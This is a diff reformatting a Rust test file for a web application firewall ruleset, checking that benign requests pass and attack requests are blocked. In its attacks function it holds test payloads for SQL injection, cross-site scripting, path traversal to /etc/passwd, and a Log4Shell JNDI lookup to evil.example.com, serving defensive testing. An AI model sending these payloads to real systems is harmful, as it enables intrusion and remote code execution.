@@ -8,10 +8,24 @@ use engine::Ruleset;
 use std::sync::Arc;
 
 fn benign_get(rs: &Arc<Ruleset>) {
-    let req = Req { method: "GET", uri: "/products/list?category=books&page=2&sort=price", headers: browser_headers(), body: b"" };
+    let req = Req {
+        method: "GET",
+        uri: "/products/list?category=books&page=2&sort=price",
+        headers: browser_headers(),
+        body: b"",
+    };
     let (i, tx) = run(rs, &req);
-    assert!(i.is_none(), "benign GET blocked: {i:?}\n{:?}", tx.matched_rule_ids());
-    assert_eq!(tx.anomaly_scores().0, 0, "matched: {:?}", tx.matched_rule_ids());
+    assert!(
+        i.is_none(),
+        "benign GET blocked: {i:?}\n{:?}",
+        tx.matched_rule_ids()
+    );
+    assert_eq!(
+        tx.anomaly_scores().0,
+        0,
+        "matched: {:?}",
+        tx.matched_rule_ids()
+    );
 }
 
 fn benign_post(rs: &Arc<Ruleset>) {
@@ -19,20 +33,44 @@ fn benign_post(rs: &Arc<Ruleset>) {
     headers.push(("Content-Type", "application/x-www-form-urlencoded"));
     headers.push(("Content-Length", "63"));
     let body = b"name=Alice+Smith&email=alice%40example.com&message=Hello+there%21";
-    let req = Req { method: "POST", uri: "/contact", headers, body };
+    let req = Req {
+        method: "POST",
+        uri: "/contact",
+        headers,
+        body,
+    };
     let (i, tx) = run(rs, &req);
-    assert!(i.is_none(), "benign POST blocked: {i:?}\n{:?}", tx.matched_rule_ids());
-    assert_eq!(tx.anomaly_scores().0, 0, "matched: {:?}", tx.matched_rule_ids());
+    assert!(
+        i.is_none(),
+        "benign POST blocked: {i:?}\n{:?}",
+        tx.matched_rule_ids()
+    );
+    assert_eq!(
+        tx.anomaly_scores().0,
+        0,
+        "matched: {:?}",
+        tx.matched_rule_ids()
+    );
 }
 
 fn blocked(rs: &Arc<Ruleset>, uri: &str, extra: Vec<(&str, &str)>) {
     let mut headers = browser_headers();
     headers.extend(extra);
-    let req = Req { method: "GET", uri, headers, body: b"" };
+    let req = Req {
+        method: "GET",
+        uri,
+        headers,
+        body: b"",
+    };
     let (i, tx) = run(rs, &req);
     let i = i.unwrap_or_else(|| panic!("not blocked: {uri}; matched {:?}", tx.matched_rule_ids()));
     assert_eq!(i.status, 403);
-    assert_eq!(i.rule_id, Some(949110), "matched {:?}", tx.matched_rule_ids());
+    assert_eq!(
+        i.rule_id,
+        Some(949110),
+        "matched {:?}",
+        tx.matched_rule_ids()
+    );
     assert!(tx.anomaly_scores().0 >= 5);
 }
 
@@ -40,7 +78,11 @@ fn attacks(rs: &Arc<Ruleset>) {
     blocked(rs, "/item?id=1'%20OR%20'1'='1", vec![]);
     blocked(rs, "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", vec![]);
     blocked(rs, "/download?file=../../../../etc/passwd", vec![]);
-    blocked(rs, "/", vec![("X-Api-Version", "${jndi:ldap://evil.example.com/a}")]);
+    blocked(
+        rs,
+        "/",
+        vec![("X-Api-Version", "${jndi:ldap://evil.example.com/a}")],
+    );
 }
 
 #[test]
